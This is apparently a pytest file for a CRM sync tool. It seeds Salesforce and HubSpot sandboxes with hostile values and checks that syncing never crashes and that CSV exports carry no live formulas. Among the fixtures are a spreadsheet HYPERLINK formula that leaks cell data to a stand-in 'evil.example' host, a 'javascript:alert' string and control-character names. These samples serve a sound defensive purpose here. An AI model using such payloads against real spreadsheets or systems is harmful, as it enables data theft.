"""Hostile values inside the CRMs (control characters, 100k-character websites, nulls
everywhere, picklist values nobody configured, formulas as names): a tick never crashes, the
owned fields it writes are right, and no CSV export hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from reliability_support import Env, make_env
from sqlalchemy import Engine

from sandbox.seed_world import POPULATION_FORMS
from sandbox.world import running_world
from sync.cli import cli
from sync.logs import MASKER
from sync.tick import TickOptions, run_tick

pytestmark = pytest.mark.slow

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
CONTROL_NAME = "Evil\x00 Corp\x07\x1b[31m\u202e\r\n\tLtd"
LONG_WEBSITE = "https://" + "a" * 100_000 + ".com/"


def _full_partner_domain(env: Env) -> tuple[str, str]:
    """(partner name, a domain one of its customer rows shares) for a partner shown in full."""
    for partner in env.world.seed.partners:
        if partner.share.get("customer") != "full":
            continue
        for row in env.world.seed.partner_rows[partner.id]:
            if row.get("domain") and row["population"] in POPULATION_FORMS_CUSTOMER:
                return partner.name, row["domain"]
    raise AssertionError("the seed has no fully shared customer with a domain")


POPULATION_FORMS_CUSTOMER = {f for pop, forms in POPULATION_FORMS.items()
                             if pop.value == "customer" for f in forms}


@pytest.fixture
def hostile(tmp_path: Path, warehouse: Engine) -> Iterator[tuple[Env, dict[str, str]]]:
    with running_world(tmp_path / "world", seed=4, accounts=120, opportunities=160,
                       partners=3) as world:
        env = make_env(world, warehouse)
        sf, hs = world.salesforce, world.hubspot
        assert sf is not None and hs is not None
        partner_name, domain = _full_partner_domain(env)
        sf_ids = sf.load("Account", [
            {"Name": FORMULA_NAME, "Website": f"https://www.{domain}/"},
            {"Name": CONTROL_NAME, "Website": LONG_WEBSITE, "Type": "Martian"},
            {"Name": None, "Website": None, "Type": None, "OwnerId": None},
            {"Name": "+SUM(1,2)", "Website": "javascript:alert(1)//\x00"},
        ])
        sf.load("Opportunity", [
            {"AccountId": sf_ids[0], "Name": "-2+3", "StageName": "Stage 42 (custom)",
             "Amount": None, "CloseDate": None, "CurrencyIsoCode": "XXX"},
            {"AccountId": None, "Name": None, "StageName": None, "Amount": None},
            {"AccountId": "001000000000000AAA", "Name": "orphan", "StageName": "Closed Won",
             "Amount": -1e18},
        ])
        hs_ids = hs.load("companies", [
            {"name": FORMULA_NAME, "domain": domain, "website": None},
            {"name": CONTROL_NAME, "domain": "a" * 100_000 + ".com", "website": LONG_WEBSITE,
             "lifecyclestage": None},
            {"name": None, "domain": None, "website": None, "lifecyclestage": None},
        ])
        deal_ids = hs.load("deals", [
            # HubSpot enforces its option lists and number/date types: no unknown values here.
            {"dealname": "@deal\x00\u202e", "dealstage": "closedwon", "amount": None,
             "closedate": None, "deal_currency_code": None},
            {"dealname": None, "dealstage": None, "amount": None, "closedate": None},
        ])
        hs.associate(deal_ids[0], hs_ids[0], primary=True)
        yield env, {"partner": partner_name, "sf_formula": sf_ids[0], "sf_long": sf_ids[1],
                    "hs_formula": hs_ids[0], "hs_long": hs_ids[1]}


def test_a_tick_over_hostile_values_never_crashes_and_writes_the_right_fields(
    hostile: tuple[Env, dict[str, str]],
) -> None:
    env, ids = hostile
    env.world.advance_clocks(1)  # a tick reads up to the CRM's clock: let the records' second pass
    backfill = run_tick(env.engine, env.config, env.connectors,
                        options=TickOptions(backfill=True, kind="backfill"))
    assert backfill.status in ("succeeded", "partial"), backfill.errors
    env.world.advance_clocks(1)
    again = run_tick(env.engine, env.config, env.connectors)
    assert again.status in ("succeeded", "partial"), again.errors
    sf, hs = env.world.salesforce, env.world.hubspot
    assert sf is not None and hs is not None

    # The formula-named account shares a fully shared partner's domain: it is matched and named.
    formula = sf.get("Account", ids["sf_formula"]) or {}
    assert int(formula.get("Ecosystem_Overlap_Count__c") or 0) >= 1
    assert f"{ids['partner']} (" in str(formula.get("Ecosystem_Partners__c"))
    hs_formula = hs.get("companies", ids["hs_formula"])
    assert int(float(hs_formula.get("ecosystem_overlap_count") or 0)) >= 1
    assert f"{ids['partner']} (" in str(hs_formula.get("ecosystem_partners"))
    # A 100k-character website is no match key: nothing is claimed about that account.
    long_site = sf.get("Account", ids["sf_long"]) or {}
    assert not long_site.get("Ecosystem_Partners__c")
    assert not hs.get("companies", ids["hs_long"]).get("ecosystem_partners")
    # Only owned fields were written, hostile records included.
    from reliability_support import HS_OWNED, SF_OWNED
    assert {e.field for e in sf.api_writes()} <= SF_OWNED
    assert {e.property for e in hs.write_log if e.source == "api"} <= HS_OWNED


def _formula_cells(text: str) -> list[str]:
    out = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


def test_no_csv_export_carries_a_live_formula(
    hostile: tuple[Env, dict[str, str]], tmp_path: Path,
) -> None:
    env, ids = hostile
    env.world.advance_clocks(1)  # a tick reads up to the CRM's clock: let the records' second pass
    run_tick(env.engine, env.config, env.connectors,
             options=TickOptions(backfill=True, kind="backfill"))
    config = tmp_path / "ecosync.toml"
    config.write_text(env.world.config_toml(
        env.engine.url.render_as_string(hide_password=False)))
    runner = CliRunner()
    exports = {}
    for args in (["report", "overlaps"], ["report", "accounts", "--limit", "1000"],
                 ["report", "working-set"], ["report", "attribution"],
                 ["match", "explain", ids["sf_formula"]],
                 ["match", "explain", ids["hs_formula"]]):
        result = runner.invoke(cli, ["--config", str(config), "--log-format", "json", *args,
                                     "--format", "csv"], env=env.world.env())
        MASKER.add(env.world.env().values())
        assert result.exit_code == 0, (args, result.output)
        exports[" ".join(args)] = result.stdout
    assert FORMULA_NAME.replace('"', '""') in "".join(exports.values()) or any(
        FORMULA_NAME in v for v in exports.values()), "the hostile name should be exported"
    live = {k: _formula_cells(v) for k, v in exports.items()}
    assert {k: v for k, v in live.items() if v} == {}
